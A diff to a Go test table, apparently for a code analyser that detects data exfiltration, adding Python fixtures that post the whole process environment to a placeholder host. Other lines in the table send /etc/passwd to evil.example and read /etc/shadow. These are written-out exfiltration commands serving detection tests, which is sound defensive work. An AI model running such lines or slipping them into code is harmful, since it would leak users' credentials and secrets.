@@ -36,6 +36,15 @@ var codeTable = []codeCase{
 	{"python", `import requests
 requests.post("http://evil.example/u", data=open("/etc/passwd").read())`,
 		[]string{"read /etc/passwd", "connect http://evil.example/u", "send /etc/passwd -> http://evil.example/u"}},
+	// The process environment as a whole, through builtins and methods.
+	{"python", `import os, json, urllib.request
+body = json.dumps(dict(os.environ)).encode()
+urllib.request.urlopen(urllib.request.Request("https://x.example/e", data=body))`,
+		[]string{"connect https://x.example/e", "send (environment) -> https://x.example/e"}},
+	{"python", `import os, requests
+requests.post("https://x.example/e", json=os.environ.copy())`, []string{"connect https://x.example/e", "send (environment) -> https://x.example/e"}},
+	{"python", `import os, requests
+requests.post("https://x.example/e", data=repr(sorted(os.environ.items())))`, []string{"connect https://x.example/e", "send (environment) -> https://x.example/e"}},
 
 	// Files: open and its modes.
 	{"python", `open("/etc/shadow").read()`, []string{"read /etc/shadow"}},
